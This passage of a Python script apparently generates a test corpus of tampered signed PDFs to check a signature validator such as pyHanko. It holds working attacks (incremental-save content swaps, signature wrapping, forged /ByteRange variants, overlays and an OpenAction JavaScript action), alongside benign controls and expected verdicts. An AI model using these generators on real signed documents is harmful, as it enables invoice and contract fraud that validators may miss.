    return append_update(doc, objs)


def a_form_fill(doc: Doc, value='ACME Trading Ltd'):
    w = IncrementalPdfFileWriter(io.BytesIO(doc.data), strict=False)
    af = g(w.root, '/AcroForm')
    if af is None:
        return None
    for fref in raw_refs(af['/Fields']):
        f = fref.get_object()
        if g(f, '/FT') == '/Tx' and g(f, '/T') == 'Name':
            break
    else:
        return None
    f['/V'] = generic.pdf_string(value)
    rect = [float(x) for x in f['/Rect']]
    bw, bh = rect[2] - rect[0], rect[3] - rect[1]
    ap = generic.StreamObject({'/Type': generic.NameObject('/XObject'), '/Subtype': generic.NameObject('/Form'),
                               '/BBox': generic.ArrayObject([generic.NumberObject(0)] * 2 + [generic.FloatObject(bw), generic.FloatObject(bh)]),
                               '/Resources': generic.DictionaryObject({'/Font': generic.DictionaryObject({'/Helv': af['/DR']['/Font'].raw_get('/Helv')})})},
                              stream_data=b'/Tx BMC q BT /Helv 10 Tf 0 g 2 6 Td (%s) Tj ET Q EMC' % value.encode())
    f['/AP'] = generic.DictionaryObject({'/N': w.add_object(ap)})
    w.mark_update(fref)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def a_catalog_reordered(doc: Doc):
    cat = doc.root
    keys = list(cat.keys())[::-1]
    body = b'<<\n  ' + b'\n    '.join(k.encode() + b'   ' + ser(cat.raw_get(k)) for k in keys) + b'\n>>'
    return append_update(doc, {doc.root_num: body})


def a_empty_update(doc: Doc):
    return append_update(doc, {})


def a_identical_rewrite(doc: Doc):
    raw = doc.raw_obj(doc.page_num)
    if raw is None or doc.xref_stream:
        return None
    return append_update(doc, {doc.page_num: raw})


def a_xmp_update(doc: Doc):
    m = doc.root.raw_get('/Metadata') if '/Metadata' in doc.root else None
    if ref_of(m) is None:
        return None
    return append_update(doc, {m.idnum: stream(b'/Type /Metadata /Subtype /XML', XMP % b'Invoice 2026-0042 (archived)')})


def parse_xref_section(data: bytes, at: int):
    """Entries {number: offset} (in-use only) and the trailer bytes of the classic xref section at `at`."""
    if not data[at:].startswith(b'xref'):
        return None, None
    pos = at + 4
    entries = {}
    while True:
        m = re.compile(rb'\s*(\d+)\s+(\d+)\s*?\r?\n').match(data, pos)
        if not m:
            break
        start, count = int(m.group(1)), int(m.group(2))
        pos = m.end()
        for k in range(count):
            row = data[pos:pos + 20]
            if row[17:18] == b'n':
                entries[start + k] = int(row[:10])
            pos += 20
    t = data.index(b'trailer', pos)
    return entries, data[t:data.index(b'startxref', t)]


def a_swa(doc: Doc):
    """Signature wrapping (CCS 2019 section 5.3): the signed second part is moved to the end of the file; the
    gap it leaves behind (now inside /ByteRange's gap, so unsigned) gets a copy of the signature dictionary's
    tail with the new /ByteRange, and, at the offset the signed trailer's startxref names, the attacker's xref
    section: the original entries plus a redefined page /Contents. The bytes the ranges cover are unchanged."""
    data = doc.data
    if '/F1' not in g(doc.resources()[0], '/Font', {}):
        return None
    X = last_startxref(data)
    m = list(re.finditer(rb'/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]', data))[-1]
    a, b, c, d = map(int, m.groups())
    cn = doc.contents_num()
    obj = b'%d 0 obj\n' % cn + stream(b'', b'q 1 1 1 rg 0 0 595 842 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1')) + b'\nendobj\n'
    if m.end() <= b:
        # /ByteRange before /Contents (sealbatch's layout): it lies in the first signed range, so the new
        # /ByteRange breaks the digest; the file is still the attack's shape. Second part moved behind the
        # dictionary's tail and the new object; a complete xref section without /Prev at the end.
        sig_end = data.index(b'endobj', c) + 6
        tail = data[c:sig_end] + b'\n'
        c2 = c + len(tail) + len(obj)
        old = data[m.start():m.end()]
        br = b'/ByteRange [%d %d %d %d]' % (a, b, c2, d)
        if len(br) > len(old) or c + d != len(data):
            return None
        moved = data[:m.start()] + br[:-1] + b' ' * (len(old) - len(br)) + b']' + data[m.end():c] + tail + obj + data[c:]
        d2 = Doc.__new__(Doc)
        d2.__dict__.update(doc.__dict__)
        d2.data = moved
        return append_update(d2, {}, prev=False, full_table=True, xref='table')
    if doc.xref_stream:
        return None
    entries, trailer = parse_xref_section(data, X)
    if entries is None or c + d != len(data) or not (c <= m.start() < X) or any(o >= c for o in entries.values()):
        return None  # this layout (the /ByteRange after /Contents, nothing but the dictionary tail before the xref)
    sig_end = data.index(b'endobj', c) + 6
    entries = dict(entries)
    entries[cn] = 0
    prev = re.search(rb'/Prev\s+(\d+)', trailer)
    size = int(re.search(rb'/Size\s+(\d+)', trailer).group(1))

    def section(obj_at):
        e = dict(entries)
        e[cn] = obj_at
        x = b'xref\n' + b''.join(b'%d 1\n%010d 00000 n \n' % (n, e[n]) for n in sorted(e))
        t = b'trailer\n<< /Size %d /Root %d 0 R' % (size, doc.root_num)
        t += (b' /Info %d 0 R' % doc.info_num if doc.info_num else b'') + (b' /ID ' + doc.id if doc.id else b'')
        t += (b' /Prev ' + prev.group(1) if prev else b'') + b' >>\n'
        return x + t
    head_len = len(section(0))
    after = section(X + head_len) + obj
    c2 = X + len(after)
    old = data[m.start():m.end()]
    br = b'/ByteRange [%d %d %d %d]' % (a, b, c2, d)
    if len(br) > len(old):
        return None
    tail = data[c:m.start()] + br + b' ' * (len(old) - len(br)) + data[m.end():sig_end] + b'\n'
    if c + len(tail) > X:
        return None
    return data[:c] + tail + b' ' * (X - c - len(tail)) + after + data[c:]


def a_objstm_contents(doc: Doc):
    """Page dictionary redefined inside a new object stream (xref stream update, type-2 entry), pointing at new
    content: the same ISA, with the changed object compressed."""
    if not doc.xref_stream:
        return None
    c, stm, xn = doc.alloc(), doc.alloc(), doc.alloc()
    page = raw_copy(doc.page)
    page['/Contents'] = Raw(b'%d 0 R' % c)
    page['/Resources'] = Raw(OWN_FONT)
    body = ser(page)
    head = b'%d 0 ' % doc.page_num
    out = bytearray(doc.data)
    offs = {}
    offs[c] = len(out)
    out += b'%d 0 obj\n' % c + stream(b'', NEW_TEXT) + b'\nendobj\n'
    offs[stm] = len(out)
    out += b'%d 0 obj\n' % stm + stream(b'/Type /ObjStm /N 1 /First %d' % len(head), head + body) + b'\nendobj\n'
    offs[xn] = len(out)
    rows = {doc.page_num: b'\x02' + stm.to_bytes(4, 'big') + b'\x00\x00'}
    for n in (c, stm, xn):
        rows[n] = b'\x01' + offs[n].to_bytes(4, 'big') + b'\x00\x00'
    nums = sorted(rows)
    data = b''.join(rows[n] for n in nums)
    trailer = b'/Root %d 0 R' % doc.root_num + (b' /Info %d 0 R' % doc.info_num if doc.info_num else b'')
    trailer += (b' /ID ' + doc.id if doc.id else b'') + b' /Prev %d' % last_startxref(doc.data)
    out += (b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] ' % (xn, xn + 1, b' '.join(b'%d 1' % n for n in nums))
            + trailer + b' /Length %d >>\nstream\n' % len(data) + data + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % offs[xn])
    return bytes(out)


def name_field(doc: Doc):
    af = g(doc.root, '/AcroForm')
    for fref in raw_refs(g(af, '/Fields')):
        f = fref.get_object()
        if g(f, '/FT') == '/Tx' and g(f, '/T') == 'Name':
            return fref.idnum, f
    return None


def a_fill_rect_enlarged(doc: Doc):
    """Form filling whose widget /Rect grows to the whole page, its appearance a white page with new text."""
    nf = name_field(doc)
    if nf is None:
        return None
    n, f = nf
    ap = doc.alloc()
    d = raw_copy(f)
    d['/V'] = generic.pdf_string('ACME Trading Ltd')
    d['/Rect'] = Raw(b'[0 0 595 842]')
    d['/AP'] = Raw(b'<< /N %d 0 R >>' % ap)
    return append_update(doc, {n: ser(d), ap: stream(b'/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources ' + OWN_FONT,
                                                    b'1 1 1 rg 0 0 595 842 re f 0 g ' + NEW_TEXT)})


def a_fill_ap_shared(doc: Doc):
    """Form filling whose new appearance is the Form XObject the page content draws, redefined: the widget
    exemption must not reach an object the page also uses."""
    nf, x = name_field(doc), first_form_xobject(doc)
    if nf is None or x is None:
        return None
    n, f = nf
    xn, _ = x
    d = raw_copy(f)
    d['/V'] = generic.pdf_string('ACME Trading Ltd')
    d['/AP'] = Raw(b'<< /N %d 0 R >>' % xn)
    return append_update(doc, {n: ser(d), xn: stream(b'/Type /XObject /Subtype /Form /BBox [0 0 110 50] /Resources ' + OWN_FONT,
                                                     b'0.6 0 0 rg 0 0 110 50 re f BT 1 1 1 rg /FX 12 Tf 12 20 Td (EVIL Corp) Tj ET')})


def a_dss_certs_contents(doc: Doc):
    """Catalog /DSS whose /Certs array lists the page content stream, which is then redefined."""
    if '/F1' not in g(doc.resources()[0], '/Font', {}):
        return None
    cn = doc.contents_num()
    cat = raw_copy(doc.root)
    dss = doc.alloc()
    cat['/DSS'] = Raw(b'%d 0 R' % dss)
    return append_update(doc, {doc.root_num: ser(cat), dss: b'<< /Type /DSS /Certs [%d 0 R] >>' % cn,
                               cn: stream(b'', b'q 1 1 1 rg 0 0 595 842 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1'))})


def a_metadata_repointed(doc: Doc):
    """Catalog /Metadata re-pointed at the page content stream, which is redefined as "XMP" with new drawing."""
    if '/F1' not in g(doc.resources()[0], '/Font', {}):
        return None
    cn = doc.contents_num()
    cat = raw_copy(doc.root)
    cat['/Metadata'] = Raw(b'%d 0 R' % cn)
    return append_update(doc, {doc.root_num: ser(cat),
                               cn: stream(b'/Type /Metadata /Subtype /XML', b'q 1 1 1 rg 0 0 595 842 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1'))})


def a_info_repointed(doc: Doc):
    """Trailer /Info re-pointed at the page /Resources dictionary, which is then redefined (another font)."""
    res, res_n = doc.resources()
    if res_n is None or res_n == doc.info_num or '/Font' not in res:
        return None
    d = raw_copy(res)
    fn = doc.alloc()
    fonts = raw_copy(res['/Font'])
    for k in list(fonts.keys()):
        fonts[k] = Raw(b'%d 0 R' % fn)
    d['/Font'] = fonts
    d['/Title'] = generic.pdf_string('Invoice')
    return append_update(doc, {res_n: ser(d), fn: b'<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>'},
                         info=res_n)


def a_contents_freed(doc: Doc):
    """The page content stream marked free in the update's xref section: the signed text disappears."""
    if doc.xref_stream:
        return None
    return append_update(doc, {}, free=[doc.contents_num()])


def a_page_added(doc: Doc):
    """A second page with new content appended to the page tree."""
    pages = raw_copy(doc.obj(doc.pages_num))
    p, c = doc.alloc(), doc.alloc()
    pages['/Kids'] = Raw(refs(doc.page_nums + [p]))
    pages['/Count'] = generic.NumberObject(len(doc.page_nums) + 1)
    return append_update(doc, {doc.pages_num: ser(pages),
                               p: b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources %s /Contents %d 0 R >>' % (doc.pages_num, OWN_FONT, c),
                               c: stream(b'', b'BT /FX 14 Tf 72 720 Td (Annex: the amount due is 99,000.00 EUR) Tj ET')})


def a_field_ap_changed(doc: Doc):
    """The Name field's existing appearance stream redefined (white box + "PAID") while its value stays empty:
    not form filling, so no widget exemption (issue #12: only for fields whose value is being filled)."""
    nf = name_field(doc)
    if nf is None or '/AP' not in nf[1]:
        return None
    apn = ref_of(nf[1]['/AP'].raw_get('/N'))
    if apn is None:
        return None
    bbox = b' '.join(ser(x) for x in nf[1]['/AP']['/N']['/BBox'])
    return append_update(doc, {apn: stream(b'/Type /XObject /Subtype /Form /BBox [%s] /Resources ' % bbox + OWN_FONT,
                                           b'1 1 1 rg 0 0 190 20 re f 0 g BT /FX 12 Tf 2 5 Td (PAID - no further claims) Tj ET')})


def a_catalog_direct_to_indirect(doc: Doc):
    """The catalog rewritten with its direct /OCProperties dictionary moved to a new indirect object, same value."""
    if '/OCProperties' not in doc.root or isinstance(doc.root.raw_get('/OCProperties'), generic.IndirectObject):
        return None
    cat = raw_copy(doc.root)
    n = doc.alloc()
    ocp = doc.root.raw_get('/OCProperties')
    cat['/OCProperties'] = Raw(b'%d 0 R' % n)
    return append_update(doc, {doc.root_num: ser(cat), n: ser(ocp)})


def a_openaction_js(doc: Doc):
    """Catalog given an /OpenAction JavaScript action (it can rewrite the shown document at open time)."""
    cat = raw_copy(doc.root)
    cat['/OpenAction'] = Raw(b'<< /S /JavaScript /JS (this.getField\\(\"Name\"\\); app.alert\\("paid"\\);) >>')
    return append_update(doc, {doc.root_num: ser(cat)})


def a_mediabox_changed(doc: Doc):
    """Page /MediaBox and /CropBox shrunk so the amount and the IBAN lines are cut off; no content changed."""
    page = raw_copy(doc.page)
    page['/MediaBox'] = Raw(b'[0 730 595 842]')
    page['/CropBox'] = Raw(b'[0 730 595 842]')
    return append_update(doc, {doc.page_num: ser(page)})


def a_content_appended(doc: Doc):
    """Page /Contents turned into an array: the signed stream plus a new overlay stream after it."""
    c = doc.page.raw_get('/Contents')
    if not isinstance(c, generic.IndirectObject) or not isinstance(c.get_object(), generic.StreamObject):
        return None
    n = doc.alloc()
    page = raw_copy(doc.page)
    page['/Contents'] = Raw(b'[%d 0 R %d 0 R]' % (c.idnum, n))
    if '/F1' not in g(doc.resources()[0], '/Font', {}):
        return None
    return append_update(doc, {doc.page_num: ser(page),
                               n: stream(b'', b'q 1 1 1 rg 60 690 480 50 re f Q ' + NEW_TEXT.replace(b'/FX', b'/F1'))})


def a_annot_removed(doc: Doc):
    """The empty signature field Approver's widget removed from the page /Annots (the field stays)."""
    annots = raw_refs(g(doc.page, '/Annots'))
    keep = [a for a in annots if g(a.get_object(), '/T') != 'Approver']
    if len(keep) == len(annots):
        return None
    page = raw_copy(doc.page)
    page['/Annots'] = Raw(refs([ref_of(a) for a in keep]))
    return append_update(doc, {doc.page_num: ser(page)})


def a_widget_moved(doc: Doc):
    """The Name field's widget /Rect moved over the amount line, value unchanged."""
    nf = name_field(doc)
    if nf is None:
        return None
    d = raw_copy(nf[1])
    d['/Rect'] = Raw(b'[70 712 260 732]')
    return append_update(doc, {nf[0]: ser(d)})


def a_sig_dict_changed(doc: Doc):
    """The signed signature dictionary redefined with another /Name and /Reason (its /Contents and
    /ByteRange kept), so the signer information shown is not what was signed."""
    af = g(doc.root, '/AcroForm')
    for fref in raw_refs(g(af, '/Fields')):
        f = fref.get_object()
        v = f.raw_get('/V') if '/V' in f else None
        if g(f, '/FT') == '/Sig' and isinstance(v, generic.IndirectObject):
            d = raw_copy(v.get_object())
            d['/Name'] = generic.pdf_string('Chief Executive Officer')
            d['/Reason'] = generic.pdf_string('Payment of 99,000.00 EUR approved')
            return append_update(doc, {v.idnum: ser(d)})
    return None


def a_new_catalog_identical(doc: Doc):
    """The catalog copied unchanged to a new object number, trailer /Root re-pointed: nothing changes."""
    n = doc.alloc()
    return append_update(doc, {n: ser(raw_copy(doc.root))}, root=n)


def a_info_update(doc: Doc):
    if doc.info_num is None:
        return None
    res, res_n = doc.resources()
    if res_n == doc.info_num:
        return None
    d = raw_copy(doc.obj(doc.info_num))
    d['/ModDate'] = generic.pdf_string('D:20260102000000Z')
    return append_update(doc, {doc.info_num: ser(d)})


# --------------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------------

PYHANKO_BASES = ['approval', 'certified-p1', 'certified-p2', 'certified-p3', 'approval-xrefstream', 'approval-info-shared']
SB = 'sealbatch*'

# id, family, expect, bases, description, pyhanko verdict observed (pass|fail; a dict base -> verdict where
# it depends on the base), function(ctx, doc) -> bytes|None
ATTACKS = []


def attack(id, family, expect, bases, description, pyhanko='fail'):
    def reg(fn):
        ATTACKS.append(dict(id=id, family=family, expect=expect, bases=bases, description=description, pyhanko=pyhanko, fn=fn))
        return fn
    return reg


def simple(fn):
    return lambda ctx, doc: fn(doc)


attack('new-catalog', 'isa', 'attack', ['approval', 'certified-p1', 'approval-xrefstream', SB],
       'new catalog object, /Pages a new page tree with new content, trailer /Root re-pointed')(simple(a_new_catalog))
attack('ocg-on-new-catalog', 'shadow-hide', 'attack', ['approval', 'certified-p2', 'certified-p3', 'approval-xrefstream', SB],
       'new catalog that only switches the hidden optional content group on (/OCProperties /D /ON)')(simple(a_ocg_on))
attack('ocg-on-same-catalog', 'shadow-hide', 'attack', ['approval', 'approval-xrefstream'],
       'catalog redefined under its own number, hidden optional content group switched on')(simple(a_ocg_on_same_catalog))
attack('dss-vri-page', 'isa', 'attack', ['approval', 'certified-p2', SB],
       'catalog /DSS whose /VRI entry points at the page, and the page redefined with new content')(simple(lambda d: dss_vri(d, 'page')))
attack('dss-vri-contents', 'isa', 'attack', ['approval', SB],
       'catalog /DSS whose /VRI entry points at the page, and the page /Contents stream redefined')(simple(lambda d: dss_vri(d, 'contents')))
attack('metadata-typed-content', 'isa', 'attack', ['approval', 'certified-p2', SB],
       'page content stream redefined with new drawing, its dictionary saying /Type /Metadata /Subtype /XML')(simple(a_metadata_typed_content))
attack('info-shared-resources', 'isa', 'attack', ['approval-info-shared', SB],
       'the trailer /Info object, which is also the page /Resources, redefined (other font, layer forced on)')(simple(a_info_shared))
attack('xobject-redefined', 'shadow-replace', 'attack', ['approval', 'certified-p2', 'certified-p3', SB],
       'Form XObject drawn by the page content redefined ("appearance stream changed")')(simple(a_xobject_redefined))
attack('contents-redefined', 'isa', 'attack', ['approval', 'certified-p1', 'certified-p2', 'certified-p3', 'approval-xrefstream', SB],
       'page /Contents stream redefined (classic ISA)')(simple(a_contents_redefined))
attack('appended-no-xref', 'isa', 'attack', ['approval', SB],
       'page /Contents redefinition appended after %%EOF with no xref section and no trailer', pyhanko='pass')(simple(a_no_xref))
attack('new-xref-no-prev', 'isa', 'attack', ['approval', SB],
       'page /Contents redefined in a new complete xref section whose trailer has no /Prev')(simple(a_no_prev))
attack('font-replaced', 'shadow-replace', 'attack', ['approval', 'certified-p2', SB],
       'the page font object redefined (another font program under the same resource name)')(simple(a_font_replaced))
attack('kids-to-hidden-page', 'shadow-hide-replace', 'attack', ['approval', 'certified-p2', SB],
       'page tree /Kids re-pointed to a page that was in the signed file but not in the page tree')(simple(a_kids_to_hidden))
attack('new-text-field-overlay', 'form', 'attack', ['approval', 'certified-p2', SB],
       'new text field + widget (white box and new text appearance) added to /Fields and the page /Annots')(simple(a_new_text_field))
attack('freetext-overlay', 'eaa', 'attack', ['certified-p3', 'certified-p2', 'approval'],
       '/FreeText annotation with an opaque appearance covering the amount')(simple(a_eaa_freetext))
attack('stamp-overlay', 'eaa', 'attack', ['certified-p3', 'certified-p2'],
       '/Stamp annotation with an opaque appearance covering the amount')(simple(a_eaa_stamp))
attack('square-overlay', 'eaa', 'attack', ['certified-p3', 'certified-p2'],
       '/Square annotation with a white opaque appearance covering the amount')(simple(a_eaa_square))
attack('empty-sig-field-overlay', 'ssa', 'attack', ['certified-p2', 'certified-p1'],
       'new empty signature field whose visible appearance overlays the amount')(simple(a_ssa))


@attack('visible-sig-after-certify', 'ssa', 'attack', ['certified-p2'],
        'new visible signature field signed by pyHanko after a P=2 certification (allow_new_visible_after_certify)')
def _(ctx, doc):
    return pyhanko_sign(ctx.pki, doc.data, 'Visible2', key='leaf-ec', box=(70, 712, 290, 752))


@attack('approval-sig-after-p1', 'docmdp', 'attack', ['certified-p1'],
        'invisible approval signature added after a P=1 certification')
def _(ctx, doc):
    return pyhanko_sign(ctx.pki, doc.data, 'Approval2', key='leaf-ec', check_certification=False)


attack('annotation-after-p2', 'docmdp', 'attack', ['certified-p2'],
       'sticky note (/Text annotation) added after a P=2 certification')(simple(a_sticky_note))
attack('annotation-after-p1', 'docmdp', 'attack', ['certified-p1'],
       'sticky note (/Text annotation) added after a P=1 certification')(simple(a_sticky_note))
attack('form-fill-after-p1', 'docmdp', 'attack', ['certified-p1'],
       'text field filled after a P=1 certification')(simple(a_form_fill))
attack('page-content-after-p3', 'docmdp', 'attack', ['certified-p3'],
       'page content redefined after a P=3 certification (annotations only are allowed)')(simple(a_contents_redefined))

for v, desc in [('contents-empty', 'signature /Contents empty (<>)'),
                ('contents-zeros', 'signature /Contents all zeros'),
                ('byterange-missing', 'signature dictionary without /ByteRange (CMS valid over the usual ranges)'),
                ('byterange-zeros', 'signature /ByteRange [0 0 0 0] (CMS valid over the real ranges)'),
                ('byterange-not-from-start', '/ByteRange starting after the original document: CMS valid, signs only the update'),
                ('gap-larger-than-contents', '/ByteRange gap larger than /Contents, swallowing a new page content object'),
                ('foreign-cms', 'a valid CMS signature by a trusted signer whose message digest is of other bytes')]:
    attack(v, 'usf', 'attack', ['unsigned'], desc)(lambda ctx, doc, v=v: raw_sign(ctx.pki, doc, variant=v))

attack('second-range-moved', 'swa', 'attack', ['approval', 'certified-p2', SB],
       'signed second byte range moved back, a page /Contents redefinition inserted in the enlarged gap')(simple(a_swa))


@attack('eku-server-auth', 'cert-usage', 'attack', ['unsigned'],
        'signed by a leaf with EKU serverAuth only (chains to the test root)', pyhanko='pass')
def _(ctx, doc):
    return pyhanko_sign(ctx.pki, doc.data, 'Signature1', key='leaf-eku-server')


@attack('eku-time-stamping', 'cert-usage', 'attack', ['unsigned'],
        'signed by a leaf with EKU timeStamping only (chains to the test root)', pyhanko='pass')
def _(ctx, doc):
    return pyhanko_sign(ctx.pki, doc.data, 'Signature1', key='leaf-eku-tsa')

attack('objstm-page-redefined', 'isa', 'attack', ['approval-xrefstream', 'sealbatch-xrefstream'],
       'page dictionary redefined inside a new object stream (xref stream update) with new content')(simple(a_objstm_contents))
attack('fill-rect-enlarged', 'form', 'attack', ['approval', 'certified-p2', SB],
       'text field filled while its widget /Rect grows to the whole page (white page + new text appearance)')(simple(a_fill_rect_enlarged))
attack('fill-ap-shared-with-page', 'form', 'attack', ['approval', 'certified-p2', SB],
       "text field filled with /AP /N re-pointed at the page's Form XObject, which is redefined")(simple(a_fill_ap_shared))
attack('dss-certs-contents', 'isa', 'attack', ['approval', 'certified-p2', SB],
       'catalog /DSS whose /Certs lists the page content stream, which is redefined ("DSS updated")')(simple(a_dss_certs_contents))
attack('metadata-repointed-to-contents', 'isa', 'attack', ['approval', 'certified-p2', SB],
       'catalog /Metadata re-pointed at the page content stream, redefined as /Type /Metadata with new drawing')(simple(a_metadata_repointed))
attack('info-repointed-to-resources', 'isa', 'attack', ['approval', SB],
       'trailer /Info re-pointed at the page /Resources dictionary, which is redefined (another font)')(simple(a_info_repointed))
attack('contents-freed', 'isa', 'attack', ['approval', 'certified-p2', SB],
       'page content stream marked free in the update xref section (the signed text disappears)')(simple(a_contents_freed))
attack('page-added', 'isa', 'attack', ['approval', 'certified-p2', 'certified-p3', SB],
       'a page with new content appended to the page tree')(simple(a_page_added))
attack('field-appearance-changed', 'shadow-replace', 'attack', ['approval', 'certified-p2', SB],
       "an existing text field's appearance stream redefined (white box + new text) without a value change",
       pyhanko='pass')(simple(a_field_ap_changed))
attack('catalog-openaction-js', 'isa', 'attack', ['approval', 'certified-p2', SB],
       'catalog given an /OpenAction JavaScript action')(simple(a_openaction_js))
attack('mediabox-cropped', 'shadow-hide', 'attack', ['approval', 'certified-p2', SB],
       'page /MediaBox and /CropBox shrunk so the signed amount lines are cut off (no content change)')(simple(a_mediabox_changed))
attack('content-overlay-appended', 'shadow-replace', 'attack', ['approval', 'certified-p2', 'certified-p3', SB],
       'page /Contents made an array: the signed stream plus a new overlay stream')(simple(a_content_appended))
attack('annotation-removed', 'docmdp', 'attack', ['certified-p2', SB],
       "the empty signature field's widget removed from the page /Annots")(simple(a_annot_removed))
attack('widget-moved', 'form', 'attack', ['approval', 'certified-p2', SB],
       "the Name field's widget /Rect moved over the amount line, value unchanged")(simple(a_widget_moved))
attack('signature-dictionary-changed', 'usf', 'attack', ['approval', 'certified-p2', SB],
       'the signed signature dictionary redefined with another /Name and /Reason (/Contents and /ByteRange kept)')(simple(a_sig_dict_changed))

# benign controls
attack('raw-signature-control', 'benign', 'benign', ['unsigned'],
       'the raw signature writer of the usf family with nothing wrong', pyhanko='pass')(lambda ctx, doc: raw_sign(ctx.pki, doc))
attack('form-fill', 'benign', 'benign', ['approval', 'certified-p2', 'approval-xrefstream', SB],
       'existing text field Name filled (/V and a new appearance stream)', pyhanko='pass')(simple(a_form_fill))
attack('sticky-note-at-p3', 'benign', 'benign', ['certified-p3'],
       'sticky note (/Text annotation, small rect, no /AP) added after a P=3 certification', pyhanko='fail')(simple(a_sticky_note))


@attack('second-sig-existing-field', 'benign', 'benign', ['certified-p2', 'approval', SB],
        'second trusted signature signed into the existing empty signature field Approver (pyhanko sign addsig --field)',
        pyhanko='pass')
def _(ctx, doc):
    return pyhanko_sign(ctx.pki, doc.data, 'Approver', key='leaf-ec')


@attack('second-sig-new-field', 'benign', 'benign', ['approval', SB],
        'second trusted signature in a new invisible field', pyhanko='pass')
def _(ctx, doc):
    return pyhanko_sign(ctx.pki, doc.data, 'Second', key='leaf-ec')


attack('catalog-reordered', 'benign', 'benign', ['approval', 'certified-p2', SB],
       'catalog rewritten in an incremental update: same entries, reversed key order, other whitespace', pyhanko='pass')(simple(a_catalog_reordered))
attack('empty-update', 'benign', 'benign', ['approval', SB],
       'an incremental update with no objects: a duplicated trailer', pyhanko='pass')(simple(a_empty_update))
attack('identical-rewrite', 'benign', 'benign', ['approval', 'certified-p2', SB],
       'the page object rewritten byte for byte in an incremental update', pyhanko='pass')(simple(a_identical_rewrite))


@attack('lta-update', 'benign', 'benign', ['approval', 'certified-p1', 'certified-p2', SB],
        'DSS and document time-stamp added by pyHanko (PdfTimeStamper, as pyhanko sign ltaupdate)', pyhanko='pass')
def _(ctx, doc):
    return pyhanko_lta(ctx.pki, doc.data)


attack('new-catalog-identical', 'benign', 'benign', ['approval', 'certified-p2', SB],
       'the catalog copied unchanged to a new object number, trailer /Root re-pointed', pyhanko='pass')(simple(a_new_catalog_identical))
attack('catalog-direct-to-indirect', 'benign', 'benign', ['approval', 'certified-p2', SB],
       'catalog rewritten with its direct /OCProperties moved to a new indirect object of the same value',
       pyhanko='fail')(simple(a_catalog_direct_to_indirect))
attack('info-update', 'benign', 'benign', ['approval', 'certified-p1', 'certified-p2', SB],
       'the trailer /Info dictionary (nothing else uses it) updated with a /ModDate', pyhanko='pass')(simple(a_info_update))


@attack('form-fill-then-lta', 'benign', 'benign', ['approval', 'certified-p2', SB],
        'text field filled, then DSS + document time-stamp: two allowed updates in sequence', pyhanko='pass')
def _(ctx, doc):
    filled = a_form_fill(doc)
    return pyhanko_lta(ctx.pki, filled) if filled else None


@attack('dss-only', 'benign', 'benign', ['approval', 'certified-p1', SB],
        'DSS with the signer chain (and a VRI entry) added by pyHanko, no time-stamp (B-LT)', pyhanko='pass')
def _(ctx, doc):
    w = IncrementalPdfFileWriter(io.BytesIO(doc.data), strict=False)
    sig = w.prev.embedded_signatures[-1]
    certs = [load_cert_from_pemder(os.path.join(ctx.pki.d, n + '.crt')) for n in ('leaf', 'inter', 'root')]
    DocumentSecurityStore.supply_dss_in_writer(w, sig.pkcs7_content, certs=certs)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


attack('xmp-update', 'benign', 'benign', ['approval', 'certified-p2', SB],
       "the catalog's /Metadata XMP stream updated", pyhanko='pass')(simple(a_xmp_update))


class Ctx:
    def __init__(self, pki):
        self.pki = pki


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('pki')
    ap.add_argument('out')
    ap.add_argument('--sealbatch-base', action='append', default=[])
    ap.add_argument('--only', help='regex on output names (debugging)')
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    pki = PKI(a.pki)
    ctx = Ctx(pki)
    o, t = base_objects(False)
    base = pdf_file(o, t)
    xs = pdf_file(o, t, xref_stream=True)
    o2, t2 = base_objects(True)
    shared = pdf_file(o2, t2)
    bases = {
        'unsigned': base,
        'approval': pyhanko_sign(pki, base, 'Signature1'),
        'certified-p1': pyhanko_sign(pki, base, 'Certification', certify=1),
        'certified-p2': pyhanko_sign(pki, base, 'Certification', certify=2),
        'certified-p3': pyhanko_sign(pki, base, 'Certification', certify=3),
        'approval-xrefstream': pyhanko_sign(pki, xs, 'Signature1'),
        'approval-info-shared': pyhanko_sign(pki, shared, 'Signature1'),
    }
    sealbatch = []
    for f in a.sealbatch_base:
        name = os.path.splitext(os.path.basename(f))[0]
        with open(f, 'rb') as fh:
            bases[name] = fh.read()
        sealbatch.append(name)
    rows = []

    def emit(name, family, base_name, expect, ph, desc, data):
        if a.only and not re.search(a.only, name):
            return
        with open(os.path.join(a.out, name), 'wb') as fh:
            fh.write(data)
        rows.append((name, family, base_name, expect, ph, desc))

    # the signed bases themselves must pass
    for b in bases:
        if b != 'unsigned':
            emit(f'base--{b}.pdf', 'benign', b, 'benign', 'pass', 'the signed base, untouched', bases[b])
    for at in ATTACKS:
        targets = [b for spec in at['bases'] for b in (sealbatch if spec == SB else [spec]) if b in bases]
        for b in targets:
            data = at['fn'](ctx, Doc(bases[b]))
            if data is None:
                continue
            ph = at['pyhanko'].get(b, 'fail' if at['expect'] == 'attack' else 'pass') if isinstance(at['pyhanko'], dict) else at['pyhanko']
            emit(f"{at['id']}--{b}.pdf", at['family'], b, at['expect'], ph, at['description'], data)
    with open(os.path.join(a.out, 'manifest.tsv'), 'w') as fh:
        fh.write('file\tfamily\tbase\texpect\tpyhanko_expect\tdescription\n')
        for r in rows:
            fh.write('\t'.join(r) + '\n')
    print(f'{len(rows)} files', file=sys.stderr)


if __name__ == '__main__':
    main()
